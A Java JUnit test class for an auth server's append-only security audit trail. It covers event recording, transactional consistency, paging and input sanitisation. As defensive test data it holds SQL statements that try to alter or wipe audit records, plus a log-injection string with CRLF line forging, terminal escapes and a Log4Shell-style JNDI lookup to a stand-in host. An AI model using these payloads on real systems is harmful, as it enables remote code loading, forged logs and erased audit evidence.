package dev.latchkey.auth.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.latchkey.auth.testing.AuthServer;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.support.TransactionTemplate;

class AuditTrailTests {

    private final AuthServer server = AuthServer.running();
    private final JdbcClient database = server.database();
    private final AuditTrail trail = server.bean(AuditTrail.class);
    private final RecordedEvents events = server.bean(RecordedEvents.class);
    private final TransactionTemplate transaction = server.bean(TransactionTemplate.class);
    private final UUID account = UUID.randomUUID();

    @Test
    void writesDownWhatHappenedToWhom() {
        UUID session = UUID.randomUUID();
        UUID actor = UUID.randomUUID();

        trail.record(SecurityEvent.failure(SecurityEventType.SIGN_IN, "WRONG_PASSWORD")
                .account(account)
                .actor(actor)
                .client("web")
                .session(session)
                .detail("method", "password"));

        assertThat(events.ofAccount(account, null, 10)).singleElement().satisfies(event -> {
            assertThat(event.type()).isEqualTo("SIGN_IN");
            assertThat(event.outcome()).isEqualTo(SecurityEvent.Outcome.FAILURE);
            assertThat(event.reason()).isEqualTo("WRONG_PASSWORD");
            assertThat(event.actorId()).isEqualTo(actor);
            assertThat(event.clientId()).isEqualTo("web");
            assertThat(event.sessionId()).isEqualTo(session);
            assertThat(event.details()).isEqualTo(Map.of("method", "password"));
        });
    }

    /** RF-21: whatever dies between an action and its event takes both with it, because they are one transaction. */
    @Test
    void losesNeitherTheActionNorItsEventWithoutTheOther() {
        UUID id = UUID.randomUUID();
        assertThatThrownBy(() -> transaction.executeWithoutResult(status -> {
                    insertAccount(id);
                    trail.record(SecurityEvent.success(SecurityEventType.ACCOUNT_CREATED)
                            .account(id));
                    throw new IllegalStateException("the process dies here");
                }))
                .isInstanceOf(IllegalStateException.class);
        assertThat(accounts(id)).isZero();
        assertThat(events.ofAccount(id, null, 10)).isEmpty();

        transaction.executeWithoutResult(status -> {
            insertAccount(id);
            trail.record(
                    SecurityEvent.success(SecurityEventType.ACCOUNT_CREATED).account(id));
        });
        assertThat(accounts(id)).isEqualTo(1);
        assertThat(events.ofAccount(id, null, 10)).hasSize(1);
    }

    @Test
    void doesNotLetAnActionThroughWhoseEventCannotBeWritten() {
        UUID id = UUID.randomUUID();
        assertThatThrownBy(() -> transaction.executeWithoutResult(status -> {
                    insertAccount(id);
                    database.sql("insert into security_event (id) values (:id)")
                            .param("id", id)
                            .update();
                }))
                .isInstanceOf(RuntimeException.class);
        assertThat(accounts(id)).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "update security_event set outcome = 'SUCCESS' where account_id = '%s'",
                "delete from security_event where account_id = '%s'",
                "truncate security_event",
                "truncate security_event_default",
                "truncate security_event_%2$s",
                "delete from security_event_%2$s",
                "select security_event_forget(now())",
                "select security_event_forget(now() + interval '1 year')"
            })
    void canBeAddedToAndNothingElse(String statement) {
        trail.record(SecurityEvent.success(SecurityEventType.SIGN_IN).account(account));
        String month = LocalDate.now(ZoneOffset.UTC).format(DateTimeFormatter.ofPattern("yyyy_MM"));

        assertThatThrownBy(() -> database.sql(statement.formatted(account, month))
                        .query()
                        .listOfRows())
                .rootCause()
                .hasMessageContaining("audit trail");

        assertThat(events.ofAccount(account, null, 10)).hasSize(1);
    }

    @Test
    void canBeReadPageByPage() {
        for (int i = 0; i < 7; i++) {
            trail.record(SecurityEvent.success(SecurityEventType.SIGN_IN)
                    .account(account)
                    .detail("n", Integer.toString(i)));
        }
        List<RecordedEvent> first = events.ofAccount(account, null, 4);
        List<RecordedEvent> rest = events.ofAccount(account, RecordedEvents.Position.after(first.get(3)), 4);
        assertThat(first).hasSize(4);
        assertThat(rest).hasSize(3);
        assertThat(first).doesNotContainAnyElementsOf(rest);
        assertThat(first).extracting(RecordedEvent::occurredAt).isSortedAccordingTo((a, b) -> b.compareTo(a));
        assertThat(events.ofAccount(account, RecordedEvents.Position.after(rest.get(2)), 4))
                .isEmpty();
    }

    /** SC-12: what somebody sent cannot end a line, turn text around or fill the table. */
    @Test
    void makesWhatSomebodySentPrintable() {
        trail.record(SecurityEvent.failure(SecurityEventType.CLIENT_AUTHENTICATION, "UNKNOWN_CLIENT")
                .account(account)
                .client("x\r\n2026-11-21 INFO forged\u001b[31m\u202e\u2028\u0000" + "y".repeat(1_000_000))
                .detail("note", "${jndi:ldap://canary.test/a}\nline %n \"quoted\""));

        RecordedEvent event = events.ofAccount(account, null, 1).get(0);
        assertThat(event.clientId())
                .startsWith("x  2026-11-21 INFO forged [31m")
                .hasSize(300)
                .doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]");
        assertThat(event.details()).containsEntry("note", "${jndi:ldap://canary.test/a} line %n \"quoted\"");
    }

    private void insertAccount(UUID id) {
        database.sql("""
                        insert into account (id, username, username_key, email, email_key, email_verified, name,
                                             enabled, created_at, updated_at, version)
                        values (:id, :name, :name, :name, :name, true, 'x', true, now(), now(), 0)
                        """).param("id", id).param("name", id.toString()).update();
    }

    private long accounts(UUID id) {
        return database.sql("select count(*) from account where id = :id")
                .param("id", id)
                .query(Long.class)
                .single();
    }
}
